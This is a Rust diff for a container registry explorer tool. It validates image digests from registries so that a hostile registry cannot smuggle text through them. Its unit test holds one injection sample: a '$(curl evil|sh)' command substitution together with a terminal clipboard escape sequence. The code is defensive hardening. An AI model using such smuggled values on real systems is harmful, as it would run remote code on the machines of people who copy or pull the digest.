@@ -67,6 +67,22 @@ fn list(v: &Value) -> String {
     }
 }
 
+/// A digest from a registry document, only if it is well formed: it is shown, copied and
+/// pulled, so a hostile registry must not smuggle other text through it.
+fn digest(node: &mut Node, v: &Value) -> Option<String> {
+    let text = text(v);
+    if crate::reference::is_digest(&text) {
+        node.digest = Some(text.clone());
+        Some(text)
+    } else {
+        node.details.push(format!(
+            "the registry sent an invalid digest: {}",
+            crate::format::inert(&text.chars().take(80).collect::<String>())
+        ));
+        None
+    }
+}
+
 fn platform(p: &Value) -> String {
     let mut s = format!("{}/{}", text(&p["os"]), text(&p["architecture"]));
     if let Some(v) = p["variant"].as_str() {
@@ -123,27 +139,28 @@ async fn manifest_node(registry: &mut Registry, label: String, m: &Fetched) -> N
         "media type: {}",
         text(&m.json["mediaType"]).if_empty(&m.media_type)
     ));
-    let config_digest = text(&m.json["config"]["digest"]);
     let config_size = m.json["config"]["size"].as_i64();
-    let steps = match registry.blob(&config_digest).await {
-        Ok(config) => {
-            let (config_node, steps) = config_node(&config_digest, config_size, &config.json);
-            node.children.push(config_node);
-            steps
-        }
-        Err(e) => {
-            let mut config = Node::new(NodeKind::Config, "config");
-            config.digest = Some(config_digest);
-            config.size = config_size;
-            config.details.push(format!("not read: {e}"));
-            node.children.push(config);
-            Vec::new()
-        }
+    let mut config = Node::new(NodeKind::Config, "config");
+    config.size = config_size;
+    let steps = match digest(&mut config, &m.json["config"]["digest"]) {
+        Some(config_digest) => match registry.blob(&config_digest).await {
+            Ok(blob) => {
+                let (read, steps) = config_node(&config_digest, config_size, &blob.json);
+                config = read;
+                steps
+            }
+            Err(e) => {
+                config.details.push(format!("not read: {e}"));
+                Vec::new()
+            }
+        },
+        None => Vec::new(),
     };
+    node.children.push(config);
     if let Value::Array(layers) = &m.json["layers"] {
         for (i, layer) in layers.iter().enumerate() {
             let mut l = Node::new(NodeKind::Layer, format!("layer {i}"));
-            l.digest = Some(text(&layer["digest"]));
+            digest(&mut l, &layer["digest"]);
             l.size = layer["size"].as_i64();
             if let Some(step) = steps.get(i) {
                 l.details.push(format!("created by: {step}"));
@@ -188,17 +205,17 @@ pub async fn explore(docker: &Docker, reference: &Reference) -> Result<Tree, OpE
                 text(&top.json["mediaType"]).if_empty(&top.media_type)
             ));
             for entry in entries {
-                let label = platform(&entry["platform"]);
-                let digest = text(&entry["digest"]);
-                let node = match registry.manifest(&digest).await {
-                    Ok(m) => manifest_node(&mut registry, label, &m).await,
-                    Err(e) => {
-                        let mut n = Node::new(NodeKind::Manifest, label);
-                        n.digest = Some(digest);
-                        n.size = entry["size"].as_i64();
-                        n.details.push(format!("not read: {e}"));
-                        n
-                    }
+                let mut failed = Node::new(NodeKind::Manifest, platform(&entry["platform"]));
+                failed.size = entry["size"].as_i64();
+                let node = match digest(&mut failed, &entry["digest"]) {
+                    Some(d) => match registry.manifest(&d).await {
+                        Ok(m) => manifest_node(&mut registry, failed.label, &m).await,
+                        Err(e) => {
+                            failed.details.push(format!("not read: {e}"));
+                            failed
+                        }
+                    },
+                    None => failed,
                 };
                 index.children.push(node);
             }
@@ -318,4 +335,22 @@ async fn local(
         root,
         notes,
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_well_formed_digests_are_kept() {
+        let mut node = Node::new(NodeKind::Layer, "layer 0");
+        let good = format!("sha256:{}", "ab".repeat(32));
+        assert_eq!(digest(&mut node, &Value::String(good.clone())), Some(good));
+        let mut node = Node::new(NodeKind::Layer, "layer 0");
+        let hostile = Value::String("$(curl evil|sh)\x1b]52;c;eA==\x07".into());
+        assert_eq!(digest(&mut node, &hostile), None);
+        assert_eq!(node.digest, None, "nothing to copy or pull");
+        assert!(node.details[0].starts_with("the registry sent an invalid digest"));
+        assert!(!node.details[0].contains('\x1b'));
+    }
 }
